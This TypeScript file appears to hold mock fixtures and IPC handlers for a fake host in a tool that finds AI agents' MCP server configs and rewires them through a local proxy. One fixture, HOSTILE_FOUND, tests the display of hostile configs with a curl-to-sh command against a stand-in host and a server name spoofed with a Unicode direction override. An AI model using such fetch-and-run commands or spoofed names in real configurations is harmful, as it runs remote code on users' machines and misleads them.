/** Agent programs as they may be found on a machine, and the commands about their files, for the fake host. */
import type { FoundAgent, FoundServer, IpcSchema, Tag } from "@/ipc/schema";
import type { World } from "./scenarios";

const server = (name: string, more: Partial<FoundServer> = {}): FoundServer => ({
  name, table: ["mcpServers"], behind: null, shown: `npx -y server-${name}`, stays: null, is_off: false, secrets: [], is_new: false, ...more,
});

const agent = (id: string, title: string, path: string, servers: FoundServer[], more: Partial<FoundAgent> = {}): FoundAgent => ({
  id, title, is_installed: true, connected_as: null, reloads: false,
  files: [{ path, project: null, exists: servers.length > 0, problem: null, servers }], ...more,
});

export const NOTHING_FOUND: FoundAgent[] = [
  agent("claude-code", "Claude Code", "/home/ana/.claude.json", [], { is_installed: false }),
  agent("codex", "Codex CLI", "/home/ana/.codex/config.toml", [], { is_installed: false }),
];

export const FOUND: FoundAgent[] = [
  agent("claude-code", "Claude Code", "/home/ana/.claude.json", [
    server("files", { behind: "files", shown: "http://127.0.0.1:7717/mcp/files" }),
    server("github", { behind: "github", shown: "http://127.0.0.1:7717/mcp/github" }),
    server("deploy", { shown: "deploy-server --stdio", is_new: true }),
  ], { connected_as: "claude-code" }),
  agent("codex", "Codex CLI", "/home/ana/.codex/config.toml", []),
  agent("cursor", "Cursor", "/home/ana/.cursor/mcp.json", [
    server("github", { secrets: ["GITHUB_TOKEN"] }),
    server("search", { stays: "has variables that only the agent fills in" }),
  ], { reloads: true }),
  agent("zed", "Zed", "/home/ana/.config/zed/settings.json", [], {
    files: [{ path: "/home/ana/.config/zed/settings.json", project: null, exists: true, problem: "it cannot be read: expected a comma on line 4", servers: [] }],
  }),
];

export const HOSTILE_FOUND: FoundAgent[] = [
  agent("cursor", "Cursor", `/home/ana/${"very-long-folder/".repeat(12)}mcp.json`, Array.from({ length: 25 }, (_, i) =>
    server(i === 0 ? "git\u202ehub\u200b" : `server-${i}-${"x".repeat(60)}`, { shown: `sh -c '${"curl https://a.example | ".repeat(12)}sh'`, is_new: i < 3, is_off: i === 4 }))),
];

type Names = "found_agents" | "plan_connect" | "connect_agent" | "undo_connect" | "leave_around" | "read_pasted" | "add_pasted";
type Handlers = { [K in Names]: (req: IpcSchema[K]["req"]) => IpcSchema[K]["res"] };

export function localAgents(world: World, emit: (tags: Tag[]) => void): Handlers {
  const of = (id: string): FoundAgent => {
    const found = world.found.find((one) => one.id === id);
    if (found === undefined) throw new Error(`no agent ${id}`);
    return found;
  };
  const pasted = { name: "weather", shown: "npx -y weather-mcp", secrets: ["WEATHER_API_KEY in $WEATHER_API_KEY"], problem: null };
  return {
    found_agents: () => world.found,
    plan_connect: ({ id, servers, upstreams }) => ({
      agent: id, secrets_stay: null, warnings: [],
      files: [{
        path: of(id).files[0]?.path ?? "",
        diff: ["@@ line 2 @@", "   \"mcpServers\": {", "-      \"command\": \"npx\",", ...[...(servers ?? []).map(({ name }) => name), ...upstreams].map((name) => `+      "url": "http://127.0.0.1:7717/mcp/${name}",`), "   }", ""].join("\n"),
      }],
      upstreams: (servers ?? []).map(({ name }) => ({ name, shown: `npx -y server-${name}`, secrets: [], problem: null })),
    }),
    connect_agent: ({ id, servers, upstreams }) => {
      const found = of(id);
      found.connected_as = id;
      for (const one of found.files.flatMap((file) => file.servers)) {
        if ((servers ?? []).some(({ name }) => name === one.name)) Object.assign(one, { behind: one.name, is_new: false });
      }
      emit(["agents", "overview"]);
      const names = [...(servers ?? []).map(({ name }) => name), ...upstreams];
      return {
        agent: id, restart: !found.reloads, files: found.files.map(({ path }) => path),
        servers: names.map((name) => ({ server: name, answered_as: `${name}-server`, problem: null })),
      };
    },
    undo_connect: ({ name }) => {
      const found = of(name);
      found.connected_as = null;
      for (const one of found.files.flatMap((file) => file.servers)) Object.assign(one, { behind: null, is_new: false });
      emit(["agents"]);
      return { said: found.files.map(({ path }) => `${path} is as it was, byte for byte.`) };
    },
    leave_around: ({ name }) => {
      for (const one of of(name).files.flatMap((file) => file.servers)) one.is_new = false;
      emit(["agents"]);
      return world.found;
    },
    read_pasted: ({ text }) => (text.includes("{") ? [pasted] : []),
    add_pasted: () => {
      emit(["upstreams"]);
      return [pasted];
    },
  };
}
